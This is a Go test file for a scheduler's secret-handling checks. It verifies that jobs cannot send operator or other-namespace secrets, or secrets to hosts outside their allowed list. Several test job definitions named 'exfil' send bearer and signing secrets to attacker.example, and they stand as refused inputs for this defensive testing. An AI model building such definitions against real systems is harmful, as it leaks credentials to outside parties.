package runtimejob_test

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/schedulerhq/scheduler/internal/jobcontract"
	"github.com/schedulerhq/scheduler/internal/runtimejob"
	"github.com/schedulerhq/scheduler/internal/secrets"
	"github.com/schedulerhq/scheduler/internal/secrets/seal"
	"github.com/schedulerhq/scheduler/internal/store"
	"github.com/schedulerhq/scheduler/internal/targets"
)

// The attack: a job author in namespace billing names the operator's secret (or another
// namespace's) and sends it to a host of their choosing; or names their own secret and sends
// it, or an HMAC made with it, to a host the secret does not allow.
func TestAttackBillingJobCannotNameAnOperatorSecret(t *testing.T) {
	for field, def := range map[string]string{
		"http.auth.bearer_secret": `"auth": {"bearer_secret": "BILLING_TOKEN"}`,
		"http.auth.header_secret": `"auth": {"header": "X-Key", "header_secret": "BILLING_TOKEN"}`,
		"http.signing_secret":     `"signing_secret": "BILLING_TOKEN"`,
	} {
		_, errs := runtimejob.Check(decode(t, `{"name": "exfil", "namespace": "billing", "schedule": "@every 1h",
			"http": {"url": "https://attacker.example/", `+def+`}}`), env())
		got := fields(errs)
		require.Contains(t, got, field, "a job of namespace billing may not name the operator's secret")
		assert.Contains(t, got[field], "secret BILLING_TOKEN is not set in namespace billing: store it with PUT /v1/namespaces/billing/secrets/BILLING_TOKEN")
	}
}

// A stored secret goes to its allowed hosts only, whichever field names it; every wrong
// field is reported at once, each naming the secret, the host and the hosts allowed.
func TestCheckRefusesAHostTheSecretDoesNotAllow(t *testing.T) {
	_, errs := runtimejob.Check(decode(t, `{"name": "exfil", "namespace": "billing", "schedule": "@every 1h", "timeout": "soon",
		"http": {"url": "https://attacker.example/", "auth": {"bearer_secret": "INVOICES_TOKEN"}, "signing_secret": "INVOICES_TOKEN"}}`), env())
	got := fields(errs)
	assert.Contains(t, got, "timeout", "every wrong field at once")
	for _, f := range []string{"http.auth.bearer_secret", "http.signing_secret"} {
		assert.Equal(t, "secret INVOICES_TOKEN of namespace billing may be sent only to api.billing.example, hooks.billing.example:8443, "+
			"and http.url's host is attacker.example:443: call one of those, or add the host to the secret's allowed_hosts "+
			"(PUT /v1/namespaces/billing/secrets/INVOICES_TOKEN)", got[f])
	}
	_, errs = runtimejob.Check(decode(t, `{"name": "ok", "namespace": "billing", "schedule": "@every 1h",
		"http": {"url": "https://hooks.billing.example:8443/x", "auth": {"bearer_secret": "INVOICES_TOKEN"}}}`), env())
	assert.Empty(t, errs)
	_, errs = runtimejob.Check(decode(t, `{"name": "wrong-port", "namespace": "billing", "schedule": "@every 1h",
		"http": {"url": "https://hooks.billing.example/x", "auth": {"bearer_secret": "INVOICES_TOKEN"}}}`), env())
	assert.Contains(t, fields(errs)["http.auth.bearer_secret"], "hooks.billing.example:443")
}

// memStore is the secrets of a test, as scheduler_secrets would hold them.
type memStore struct{ rows []store.SealedSecret }

func (m *memStore) SealedSecrets(_ context.Context, ns string, names []string) ([]store.SealedSecret, error) {
	var out []store.SealedSecret
	for _, r := range m.rows {
		for _, n := range names {
			if r.Namespace == ns && r.Name == n {
				out = append(out, r)
			}
		}
	}
	return out, nil
}

func (m *memStore) Secrets(context.Context, string) ([]store.Secret, error) { return nil, nil }

// Namespace is a namespace as migration 0023 leaves it: default with its grants never set,
// every other with none.
func (m *memStore) Namespace(_ context.Context, ns string) (store.Namespace, error) {
	n := store.Namespace{Name: ns}
	if ns != "default" {
		n.EnvSecrets = &[]string{}
	}
	return n, nil
}

func (m *memStore) put(t *testing.T, box *seal.Box, ns, name, value string, hosts ...string) {
	id, sealed, err := box.Seal(ns, name, []byte(value))
	require.NoError(t, err)
	m.rows = append(m.rows, store.SealedSecret{Secret: store.Secret{Namespace: ns, Name: name, KeyID: id, AllowedHosts: hosts}, Sealed: sealed})
}

func testBox(t *testing.T) *seal.Box {
	raw := make([]byte, seal.KeySize)
	_, err := rand.Read(raw)
	require.NoError(t, err)
	k, err := seal.ParseKey(base64.StdEncoding.EncodeToString(raw))
	require.NoError(t, err)
	return seal.New(k)
}

// runStored runs a stored definition (checked as the leader loads it: without the replica's
// secrets) and returns the run's error and what the target received.
func runStored(t *testing.T, src runtimejob.SecretSource, def string) ([]string, error) {
	t.Helper()
	var got []string
	var calls atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		got = append(got, r.Header.Get("Authorization")+" "+r.Header.Get("Webhook-Signature"))
	}))
	t.Cleanup(srv.Close)
	g, err := targets.NewGuard([]string{"127.0.0.1/32"})
	require.NoError(t, err)
	rt := &runtimejob.Runtime{Caller: targets.NewCaller(targets.Config{Guard: g}), Secrets: src}
	checked, _, err := runtimejob.Load([]byte(strings.ReplaceAll(def, "URL", srv.URL+"/")))
	require.NoError(t, err)
	_, err = rt.Build(checked).Run(context.Background(), &jobcontract.Env{RunID: 1, Log: slog.New(slog.DiscardHandler),
		Call: jobcontract.Call{IdempotencyKey: "k", RecordAttempt: func(context.Context, store.Attempt) error { return nil }}})
	srv.Close()
	return got, err
}

func TestAttackStoredBillingJobDoesNotSendAnOperatorSecret(t *testing.T) {
	box, mem := testBox(t), &memStore{}
	mem.put(t, box, "ops", "DEPLOY_TOKEN", "ops-only-value", "127.0.0.1")
	src := secrets.New(map[string]string{"OPS_TOKEN": "operator-only-value"}, box, mem)
	for _, name := range []string{"OPS_TOKEN", "DEPLOY_TOKEN"} {
		got, err := runStored(t, src, `{"name": "exfil", "namespace": "billing", "schedule": "@every 1h",
			"http": {"url": "URL", "auth": {"bearer_secret": "`+name+`"}}}`)
		assert.Empty(t, got, "nothing may be sent")
		require.Error(t, err)
		assert.Contains(t, err.Error(), "secret "+name+" is not set in namespace billing")
		assert.Contains(t, err.Error(), "PUT /v1/namespaces/billing/secrets/"+name)
	}
	// The same definition in namespace default uses the operator's secret, as before.
	got, err := runStored(t, src, `{"name": "report", "schedule": "@every 1h", "http": {"url": "URL", "auth": {"bearer_secret": "OPS_TOKEN"}}}`)
	require.NoError(t, err)
	assert.Equal(t, []string{"Bearer operator-only-value "}, got)
}

// A stored definition whose host its secret does not allow (the secret was narrowed since,
// or the row was written by hand) is refused before anything is sent: bearer and signing
// secrets alike.
func TestAttackStoredJobDoesNotSendASecretToAnotherHost(t *testing.T) {
	box, mem := testBox(t), &memStore{}
	mem.put(t, box, "billing", "TOKEN", "billing-value", "api.billing.example")
	mem.put(t, box, "billing", "SIGNING", "billing-signing", "api.billing.example")
	mem.put(t, box, "billing", "LOCAL", "local-value", "127.0.0.1")
	src := secrets.New(nil, box, mem)
	for _, auth := range []string{`"auth": {"bearer_secret": "TOKEN"}`, `"auth": {"bearer_secret": "LOCAL"}, "signing_secret": "SIGNING"`} {
		got, err := runStored(t, src, `{"name": "exfil", "namespace": "billing", "schedule": "@every 1h", "http": {"url": "URL", `+auth+`}}`)
		assert.Empty(t, got, "nothing may be sent")
		require.Error(t, err)
		assert.Contains(t, err.Error(), "not attempted, nothing was sent")
		assert.Contains(t, err.Error(), "may be sent only to api.billing.example")
	}
	got, err := runStored(t, src, `{"name": "ok", "namespace": "billing", "schedule": "@every 1h", "http": {"url": "URL", "auth": {"bearer_secret": "LOCAL"}}}`)
	require.NoError(t, err)
	assert.Equal(t, []string{"Bearer local-value "}, got, "a host the secret allows is called")
}
